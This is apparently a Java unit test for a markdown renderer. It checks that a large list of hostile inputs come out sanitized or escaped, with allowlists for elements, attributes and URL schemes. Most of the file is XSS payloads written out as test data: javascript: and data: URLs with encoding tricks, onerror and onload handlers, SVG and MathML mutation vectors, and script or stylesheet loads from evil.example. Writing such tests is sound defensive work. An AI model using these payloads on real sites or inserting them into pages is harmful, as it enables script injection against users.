package dateline.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import dateline.markdown.MarkdownSettings.RawHtml;
import dateline.source.Source;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;

/** Nothing that a text says can run in a reader's browser or change what a page's own scripts and styles see. */
class HostileTextTest {
    private static final Set<String> ELEMENTS =
            Set.of(("p br hr h2 h3 h4 h5 h6 ul ol li dl dt dd blockquote pre code kbd samp em strong b i "
                            + "s del ins sub sup small mark q cite abbr dfn time bdi bdo span div section table "
                            + "caption thead tbody tfoot tr th td figure figcaption img a details summary ruby rt "
                            + "rp")
                    .split(" "));

    private static final Set<String> ATTRIBUTES =
            Set.of(("href src alt title class lang dir scope colspan rowspan start reversed type datetime "
                            + "cite open id role aria-label tabindex")
                    .split(" "));

    private static final Set<String> SCHEMES =
            Set.of("http", "https", "mailto", "tel", "topic", "story", "author", "source", "section");

    /** One text a line; {@code ⏎} is a line end. */
    private static final String ONE_A_LINE = """
            [x](javascript:alert(1))
            [x](JaVaScRiPt:alert(1))
            [x](javascript&colon;alert(1))
            [x](java&#115;cript:alert(1))
            [x](java&#x73;cript:alert(1))
            [x](java&#0000115cript:alert(1))
            [x](java&Tab;script:alert(1))
            [x](java&NewLine;script:alert(1))
            [x](&#1;javascript:alert(1))
            [x](&#x20;javascript:alert(1))
            [x](<java script:alert(1)>)
            [x](\u200Bjavascript:alert(1))
            [x](java\u00ADscript:alert(1))
            [x](\\javascript:alert(1))
            [x](java\\script:alert(1))
            [x](javascript\\:alert(1))
            [x](vbscript:msgbox(1))
            [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
            [x](data:text/html,<script>alert(1)</script>)
            [x](file:///etc/passwd)
            [x](blob:https://a/b)
            [x](filesystem:http://a/b)
            [x](view-source:http://a)
            [x](jar:http://a!/b)
            [x](feed:javascript:alert(1))
            [x](//evil.example/x)
            [x](\\\\evil.example)
            [x](/\\evil.example)
            [x]: javascript:alert(1)⏎⏎[x]
            [x]: <javascript:alert(1)> "t"⏎⏎[a][x] [x][]
            <javascript:alert(1)>
            <JAVASCRIPT:alert(1)>
            <data:text/html,x>
            ![x](javascript:alert(1))
            ![x](data:image/svg+xml,<svg/onload=alert(1)>)
            ![x" onerror="alert(1)](a.png)
            ![x](a.png" onerror="alert(1))
            ![x](<a.png" onerror="alert(1)>)
            ![x](a.png "t" onload="alert(1)")
            ![&quot; onerror=&quot;alert(1)](a.png '" onerror="alert(1)')
            [x](a "t&quot; onclick=&quot;alert(1)")
            [x](https://a/"onclick="alert(1))
            [x](<https://a/" onclick="alert(1)>)
            https://a.example/"onclick="alert(1)
            https://a.example/<script>alert(1)</script>
            a@b.example"onclick="alert(1)
            **<script>alert(1)</script>**
            `<script>alert(1)</script>`
            # <script>alert(1)</script>
            # " onclick="alert(1)
            # x {#y onclick=alert(1)}
            | <script>alert(1)</script> |⏎|---|⏎| <img src=x onerror=alert(1)> |
            ```"><script>alert(1)</script>⏎x⏎```
            ```js onclick=alert(1)⏎x⏎```
            ~~~&quot;><img/src=x/onerror=alert(1)>⏎x⏎~~~
            [^1]⏎⏎[^1]: <img src=x onerror=alert(1)>
            [^"><script>]⏎⏎[^"><script>]: note
            *[HTML]: "><script>alert(1)</script>⏎⏎HTML
            *["><script>alert(1)</script>]: x⏎⏎"><script>alert(1)</script>
            <script>alert(1)</script>
            <SCRIPT SRC=//evil.example></SCRIPT>
            <script⏎>alert(1)</script⏎>
            <script>alert(1)
            a <script>alert(1)</script> b
            a <script> b⏎⏎c </script>
            <<script>alert(1)//<</script>
            <scr<script>ipt>alert(1)</scr</script>ipt>
            <img src=x onerror=alert(1)>
            <img/src=x/onerror=alert(1)>
            <IMG SRC="javascript:alert(1)">
            <img src="jav&#x09;ascript:alert(1)">
            <img src=a.png srcset="javascript:alert(1) 2x">
            <img src=`javascript:alert(1)`>
            <img alt="`><script>alert(1)</script>" src=a.png>
            <a href="javascript:alert(1)">x</a>
            <a href=" &#14; javascript:alert(1)">x</a>
            <a href="java⏎script:alert(1)">x</a>
            <a href="&#106;avascript:alert(1)">x</a>
            <a href="//evil.example">x</a>
            <a href="data:text/html,x">x</a>
            <a href=# onclick=alert(1)>x</a>
            <a href=# onclick = "alert(1)" title='>'>x</a>
            <a xlink:href="javascript:alert(1)">x</a>
            <p onclick=alert(1)>x
            <p/onmouseover=alert(1)>x
            <p "onclick=alert(1)">x
            <p a='"' onclick='alert(1)'>x
            <p style="background:url(javascript:alert(1))">x
            <p style=x:expression(alert(1))>x
            <div id=main class=nav>x</div>
            <p id=location name=cookie>x
            <form id=x action=javascript:alert(1)><input name=y type=submit></form>
            <button formaction=javascript:alert(1)>x</button>
            <iframe src=javascript:alert(1)></iframe>
            <iframe srcdoc="<script>alert(1)</script>">
            <object data=javascript:alert(1)></object>
            <embed src=javascript:alert(1)>
            <applet code=x></applet>
            <base href=https://evil.example/>
            <meta http-equiv=refresh content="0;url=javascript:alert(1)">
            <link rel=stylesheet href=https://evil.example/x.css>
            <style>@import "https://evil.example";</style>
            <style>p{}</style><img src=x onerror=alert(1)>
            <body onload=alert(1)>
            <html onclick=alert(1)><head><script>alert(1)</script>
            <svg onload=alert(1)>
            <svg><script>alert(1)</script></svg>
            <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
            <svg><animate onbegin=alert(1) attributeName=x>
            <svg><use href="data:image/svg+xml,<svg onload=alert(1)>"></svg>
            <svg><style><img src=x onerror=alert(1)></style></svg>
            <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
            <svg><foreignObject><p onclick=alert(1)>x</foreignObject></svg>
            <math><mi xlink:href="data:x,<script>alert(1)</script>">x</math>
            <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
            <math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
            <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
            <noscript><p title="</noscript><img src=x onerror=alert(1)>">
            <noembed><p title="</noembed><img src=x onerror=alert(1)>">
            <noframes><p title="</noframes><img src=x onerror=alert(1)>">
            <xmp><p title="</xmp><img src=x onerror=alert(1)>">
            <title><p title="</title><img src=x onerror=alert(1)>">
            <textarea><p title="</textarea><img src=x onerror=alert(1)>">
            <template><script>alert(1)</script></template>
            <select><template><style><!--</style><img src=x onerror=alert(1)>--></select>
            <plaintext><script>alert(1)</script>
            <table><tr><td background="javascript:alert(1)">x
            <table><caption><svg><style></caption><img src=x onerror=alert(1)>
            <listing>&lt;img src=x onerror=alert(1)&gt;</listing>
            <marquee onstart=alert(1)>x</marquee>
            <details open ontoggle=alert(1)>x</details>
            <video src=x onerror=alert(1)><source onerror=alert(1)></video>
            <audio src=javascript:alert(1) autoplay></audio>
            <isindex action=javascript:alert(1) type=image>
            <keygen autofocus onfocus=alert(1)>
            <blockquote cite="javascript:alert(1)">x</blockquote>
            <q cite="data:text/html,x">x</q>
            <!-- --><script>alert(1)</script> -->
            <!--><script>alert(1)</script>-->
            <!--[if gte IE 4]><script>alert(1)</script><![endif]-->
            <![CDATA[<script>alert(1)</script>]]>
            <?xml version="1.0"?><script>alert(1)</script>
            <!DOCTYPE x [<!ENTITY y "z">]><img src=x onerror=alert(1)>
            <x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
            <a data-hole="0" href="javascript:alert(1)">x</a> [y](z.md)
            <img data-hole="0"> ![y](z.png)
            <h2 data-hole="99999999999999">x</h2>
            <p title="⏎⏎"><img src=x onerror=alert(1)>
            <div title="⏎⏎> onclick=alert(1)
            - <div title='⏎- '><img src=x onerror=alert(1)>
            > <p title="⏎> "><img src=x onerror=alert(1)>
            <a href="https://a.example" title="&quot; onclick=&quot;alert(1)">x</a>
            <a href="https://a.example/&quot; onclick=&quot;alert(1)">x</a>
            &lt;script&gt;alert(1)&lt;/script&gt;
            &#60;img src=x onerror=alert(1)&#62;
            \\<script>alert(1)</script>
            """;

    static List<String> texts() {
        List<String> texts = new ArrayList<>();
        ONE_A_LINE.lines().forEach(line -> texts.add(line.replace('⏎', '\n')));
        texts.add("<p>" + "<div>".repeat(90) + "<img src=x onerror=alert(1)>");
        texts.add("<b>".repeat(300) + "<script>alert(1)</script>");
        texts.add("<svg>".repeat(300) + "<p><style><img src=x onerror=alert(1)></style>");
        return texts;
    }

    @ParameterizedTest
    @MethodSource("texts")
    void nothingRuns(String text) {
        for (RawHtml mode : List.of(RawHtml.SANITIZE, RawHtml.ESCAPE)) {
            Body body = Markdown.read(Source.of("a.md", text), 0, new MarkdownSettings(mode, true))
                    .value();
            for (Element element :
                    Jsoup.parseBodyFragment(Filled.html(body)).body().select("> *, * *")) {
                assertThat(ELEMENTS).as("element").contains(element.normalName());
                for (Attribute attribute : element.attributes()) {
                    assertThat(ATTRIBUTES).as("attribute").contains(attribute.getKey());
                    assertHarmless(element, attribute);
                }
            }
            assertThat(Filled.brokenRuns(body)).isEmpty();
        }
    }

    private static void assertHarmless(Element element, Attribute attribute) {
        String value = attribute.getValue();
        switch (attribute.getKey()) {
            case "href", "src", "cite" -> {
                String seen = value.replaceAll("[\\p{Cntrl}\\s\\p{Cf}]", "").toLowerCase(Locale.ROOT);
                int end = seen.indexOf(':');
                boolean hasScheme = end > 0 && seen.substring(0, end).matches("[a-z][a-z0-9+.-]*");
                assertThat(!hasScheme || SCHEMES.contains(seen.substring(0, end)))
                        .as(value)
                        .isTrue();
                assertThat(seen).doesNotStartWith("//").doesNotStartWith("\\").doesNotStartWith("/\\");
            }
            case "id" ->
                assertThat(value.startsWith("fn") || element.normalName().startsWith("h"))
                        .as("only headings and footnotes have ids: " + value)
                        .isTrue();
            case "class" ->
                assertThat(value)
                        .matches("(table|right|center|task|footnotes?|footnote-back|language-[\\w+#.-]{1,30})");
            default -> {}
        }
    }

    @ParameterizedTest
    @EnumSource
    void onlyTrustedHtmlPassesUnseen(RawHtml mode) {
        String script = "<script>alert(1)</script>\n";
        Body body = Markdown.read(Source.of("a.md", script), 0, new MarkdownSettings(mode, true))
                .value();
        assertThat(body.html().contains(script)).isEqualTo(mode == RawHtml.TRUST);
    }
}
